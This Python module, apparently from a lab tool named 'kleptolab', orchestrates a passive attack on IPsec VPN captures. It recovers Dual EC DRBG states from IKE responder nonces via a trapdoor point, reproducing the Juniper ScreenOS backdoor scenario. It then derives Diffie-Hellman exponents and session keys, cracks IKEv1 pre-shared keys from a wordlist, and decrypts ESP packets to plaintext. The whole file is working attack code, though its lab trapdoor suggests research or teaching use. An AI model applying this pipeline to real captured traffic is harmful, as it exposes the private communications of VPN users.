"""The passive decryptor pipeline: capture → states → DH exponents → keys → plaintext.

Reads only the capture; never sends a packet.  Round 1 anchors the PRNG walk
at every 32-byte phase-1 responder nonce (IKEv1 MM4/AM2, IKEv2 IKE_SA_INIT)
in capture order: a nonce that an earlier state's walk predicts costs nothing,
the others are swept (2^16, in parallel, cached per nonce; see
:mod:`~kleptolab.attack.anchoring`).  Every KE in the capture is then matched
against every walk (multi-connection attack).  Later rounds do the same for
child-exchange nonces (Quick Mode, CREATE_CHILD_SA).  Then ESP is decrypted
with ICVs verified.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from kleptolab.attack.anchoring import CACHE, PREDICTED, SWEEP, Recovery, Sighting, anchor_nonces
from kleptolab.attack.engine import Engine, recover_all
from kleptolab.attack.errors import AttackFailure
from kleptolab.attack.ikev1_attack import Ikev1Handshake, Ikev1Outcome, attack_ikev1, parse_ikev1
from kleptolab.attack.ikev2_attack import Ikev2Handshake, Ikev2Outcome, attack_ikev2, parse_ikev2
from kleptolab.attack.outputs import EspSaRow, Ikev1Row, Ikev2Row
from kleptolab.attack.prng_walk import PrngWalker
from kleptolab.attack.recovery import NONCE_SIZE, StateCache
from kleptolab.capture import (
    EspPacket,
    IkePacket,
    classify_all,
    group_esp_sas,
    group_ike_sas,
    read_capture,
)
from kleptolab.drbg.trapdoor import Trapdoor
from kleptolab.esp.errors import EspError
from kleptolab.esp.packet import NEXT_HEADER_IPV4, NEXT_HEADER_IPV6

__all__ = ["NOT_DUAL_EC", "WRONG_Q", "DecryptOptions", "DecryptResult", "decrypt_capture"]

Progress = Callable[[str, int, int], None]
Handshake = Ikev1Handshake | Ikev2Handshake
Outcome = Ikev1Outcome | Ikev2Outcome

NOT_DUAL_EC = ("responder nonce is {n} bytes: not Dual EC output (ScreenOS 6.1 / X9.31 draws 20 bytes) "
               "— no state recovered")
WRONG_Q = ("no state recovered: no candidate state predicts either peer's KE — the firmware's Q is not "
           "the lab trapdoor's Q (patched/Juniper Q, e.g. 6.3.0r21 or 6.2.0r14)")
MAX_ROUNDS = 4
ESP_BATCH = 64  # packets per EspSa.unprotect_batch call (measured best of 16/64/256)


@dataclass(frozen=True)
class DecryptOptions:
    """Tunables of one run (``psk_wordlist``: IKEv1 PSK guesses, tried in order)."""

    steps: int = 64
    exponent_bytes: int = 20
    psk: bytes | None = None
    quirk_shifts: int = 0
    psk_wordlist: tuple[bytes, ...] = ()


@dataclass
class DecryptResult:
    """Everything one run produced (written out by :func:`kleptolab.attack.outputs.write_outputs`)."""

    report: dict[str, Any]
    ikev1: list[Ikev1Row] = field(default_factory=list)
    ikev2: list[Ikev2Row] = field(default_factory=list)
    esp: list[EspSaRow] = field(default_factory=list)
    plaintext: list[tuple[float, bytes]] = field(default_factory=list)


def _sid(spis: tuple[bytes, bytes]) -> str:
    return f"{spis[0].hex()}:{spis[1].hex()}"


def _parse(spis: tuple[bytes, bytes], group: list[IkePacket]) -> tuple[dict[str, Any], Handshake | None]:
    """The report entry of one IKE SA and its handshake (None: not attackable, entry says why)."""
    first = group[0]
    version = first.version
    entry: dict[str, Any] = {"id": _sid(spis), "version": version, "initiator": first.datagram.src,
                             "responder": first.datagram.dst, "messages": len(group),
                             "first_frame": first.datagram.index}
    try:
        h: Handshake = parse_ikev1(entry["id"], group) if version == 1 else parse_ikev2(entry["id"], group)
    except AttackFailure as exc:
        entry["failure"] = str(exc)
        return entry, None
    if isinstance(h, Ikev1Handshake):
        entry.update(exchange="Aggressive Mode" if h.aggressive else "Main Mode", proposal=h.suite.describe(),
                     auth=h.suite.auth_name)
    else:
        entry.update(exchange="IKE_SA_INIT/IKE_AUTH", proposal=h.suite.describe())
    entry.update(nr=h.nr.hex(), nonce_bytes=len(h.nr))
    if len(h.nr) != NONCE_SIZE:
        entry["failure"] = NOT_DUAL_EC.format(n=len(h.nr))
        return entry, None
    return entry, h


def decrypt_capture(
    capture: Path, trapdoor: Trapdoor, engine: Engine, cache: StateCache,
    options: DecryptOptions = DecryptOptions(), progress: Progress | None = None,
) -> DecryptResult:
    """Run the whole attack on ``capture``; ``ValueError`` only if it is not a capture at all."""
    started = time.perf_counter()
    cap = read_capture(capture)
    packets = classify_all(cap.datagrams)
    sessions: list[dict[str, Any]] = []
    handshakes: list[Handshake] = []
    for spis, group in group_ike_sas(packets).items():
        entry, h = _parse(spis, group)
        sessions.append(entry)
        if h is not None:
            handshakes.append(h)
    walker = PrngWalker(trapdoor.q, options.steps, options.exponent_bytes)
    timings: dict[str, float] = {"recovery_s": 0.0, "sweep_s": 0.0}
    walked: set[bytes] = set()
    recoveries: dict[bytes, Recovery] = {}

    def sweep(nonces: list[bytes]) -> dict[bytes, list[int]]:
        t0 = time.perf_counter()
        states = recover_all(nonces, trapdoor, engine, cache, quirk_shifts=options.quirk_shifts)
        timings["sweep_s"] += time.perf_counter() - t0
        return states

    def recover(sightings: list[Sighting]) -> None:
        def tick(done: int, total: int) -> None:
            if progress is not None:
                progress("recovering Dual EC states", done, total)

        t0 = time.perf_counter()
        walked.update(s.nonce for s in sightings)
        recoveries.update(anchor_nonces(sightings, walker, sweep, cache, tick))
        timings["recovery_s"] += time.perf_counter() - t0

    # capture order: the walk from an early state predicts later nonces, which then cost no sweep
    recover([Sighting(h.sid, "IKEv1 phase-1 Nr" if isinstance(h, Ikev1Handshake) else "IKE_SA_INIT Nr",
                      h.nr, h.nr_order) for h in sorted(handshakes, key=lambda h: h.nr_order)])
    by_id = {s["id"]: s for s in sessions}
    outcomes: dict[str, Outcome] = {}
    cracked: dict[str, tuple[bytes, dict[str, object]]] = {}
    todo = list(handshakes)
    t_attack, r_before = time.perf_counter(), timings["recovery_s"]
    for _round in range(MAX_ROUNDS):
        extra: list[Sighting] = []
        for i, h in enumerate(todo):
            if progress is not None:
                progress("attacking IKE SAs", i, len(todo))
            t0 = time.perf_counter()
            out = _attack(h, walker, options, cracked)
            outcomes[h.sid] = out
            by_id[h.sid]["time_s"] = round(time.perf_counter() - t0, 4)
            label = "Quick Mode Nr" if isinstance(h, Ikev1Handshake) else "CREATE_CHILD_SA Nr"
            for n, o in out.child_nonces:
                if len(n) == NONCE_SIZE and n not in walked:
                    walked.add(n)
                    extra.append(Sighting(h.sid, label, n, o))
        if progress is not None:
            progress("attacking IKE SAs", len(todo), len(todo))
        if not extra:
            break
        recover(extra)  # a child nonce a walk predicts costs nothing; the others are swept
        retry = {e.session for e in extra}
        todo = [h for h in handshakes if h.sid in retry]
    timings["attack_s"] = time.perf_counter() - t_attack - (timings["recovery_s"] - r_before)
    for h in handshakes:  # a walk that predicts another connection's nonce confirms its state
        walker.find_output(h.nr)
    result = DecryptResult(report={})
    owner: dict[tuple[bytes, str, str], str] = {}
    for h in handshakes:
        out, entry = outcomes[h.sid], by_id[h.sid]
        _report(h, out, entry, walker, cache)
        rec = recoveries.get(h.nr)
        if rec is not None:
            entry["recovered_by"] = rec.describe()
            entry["recovery"] = rec.to_json()
        if out.failure is not None:
            continue
        if isinstance(out, Ikev1Outcome) and out.row is not None:
            result.ikev1.append(out.row)
        elif isinstance(out, Ikev2Outcome) and out.row is not None:
            result.ikev2.append(out.row)
        for row in out.esp:
            owner[(row.spi, row.src, row.dst)] = h.sid
            result.esp.append(row)
    t0 = time.perf_counter()
    esp_report = _decrypt_esp(packets, {(r.spi, r.src, r.dst): r for r in result.esp}, result, progress)
    timings["esp_s"] = time.perf_counter() - t0
    for e in esp_report:
        sid = owner.get((bytes.fromhex(e["spi"]), e["src"], e["dst"]))
        if sid is not None:
            by_id[sid]["esp_packets"] = by_id[sid].get("esp_packets", 0) + e["decrypted"]
    result.report = {
        "capture": str(capture),
        "frames": cap.frame_count,
        "warnings": cap.warnings,
        "sessions": sessions,
        "esp": esp_report,
        "anchors_walked": len(walker.anchors),
        "nonce_recovery": {how: sum(r.how == how for r in recoveries.values()) for how in (SWEEP, PREDICTED, CACHE)},
        "walk_steps": options.steps,
        "timings": {**{k: round(v, 3) for k, v in timings.items()},
                    "total_s": round(time.perf_counter() - started, 3)},
    }
    return result


def _attack(
    h: Handshake, walker: PrngWalker, options: DecryptOptions, cracked: dict[str, tuple[bytes, dict[str, object]]]
) -> Outcome:
    """Attack one SA; a PSK cracked in an earlier round is reused, not cracked again."""
    if isinstance(h, Ikev2Handshake):
        return attack_ikev2(h, walker)
    if h.sid in cracked:
        psk, info = cracked[h.sid]
        out = attack_ikev1(h, walker, psk)
        out.psk = info
        return out
    out = attack_ikev1(h, walker, options.psk, options.psk_wordlist)
    if out.psk is not None and out.psk.get("source") == "cracked" and out.keys is not None:
        cracked[h.sid] = (out.psk_value, out.psk)
    return out


def _report(h: Handshake, out: Outcome, entry: dict[str, Any], walker: PrngWalker, cache: StateCache) -> None:
    entry["candidate_states"] = [f"{s:064x}" for s in cache.get(h.nr) or []]
    entry["confirmed_states"] = {f"{a.state:064x}": walker.confirmations(a)
                                 for a in walker.anchors if a.nonce == h.nr and walker.confirmations(a)}
    if isinstance(out, Ikev1Outcome):
        entry["auth_check"] = out.auth_check
        if out.psk is not None:
            entry["psk"] = out.psk
    if out.dh is None:
        entry["failure"] = WRONG_Q
        return
    entry["dh_draw"] = out.dh.draw.describe()
    entry["unlocked_by"] = out.dh.draw.anchor.session
    if out.failure is not None:
        entry["failure"] = out.failure
        return
    assert out.keys is not None
    keys = {k: v.hex() for k, v in out.keys.as_dict().items()}
    if isinstance(out, Ikev1Outcome):
        keys["g_xy"] = out.g_xy.hex()
    entry["keys"] = keys
    entry["ike_messages_decrypted"] = out.decrypted
    entry["ike_messages_failed"] = out.undecrypted
    entry["child_sas"] = out.children


def _decrypt_esp(
    packets: list[IkePacket | EspPacket], rows: dict[tuple[bytes, str, str], EspSaRow], result: DecryptResult,
    progress: Progress | None,
) -> list[dict[str, Any]]:
    """Verify and decrypt every ESP packet whose SA keys were recovered (one EspSa per SA)."""
    report = []
    groups = group_esp_sas(packets)
    total = sum(len(g) for g in groups.values())
    done = 0
    for (spi, src, dst), group in groups.items():
        row = rows.get((spi, src, dst))
        ok = bad = other = 0
        if row is not None:
            sa = row.sa()
            for lo in range(0, len(group), ESP_BATCH):
                batch = group[lo : lo + ESP_BATCH]
                for p, opened in zip(batch, sa.unprotect_batch([p.data for p in batch]), strict=True):
                    if isinstance(opened, EspError):
                        bad += 1
                        continue
                    ok += 1
                    if opened.next_header in (NEXT_HEADER_IPV4, NEXT_HEADER_IPV6):
                        result.plaintext.append((p.timestamp, opened.payload))
                    else:
                        other += 1
        done += len(group)
        if progress is not None:
            progress("decrypting ESP", done, total)
        report.append({"spi": spi.hex(), "src": src, "dst": dst, "packets": len(group),
                       "decrypted": ok, "icv_failed": bad, "not_tunnel_mode": other,
                       "failure": None if row is not None else "no keys recovered for this SPI"})
    result.plaintext.sort(key=lambda t: t[0])
    return report
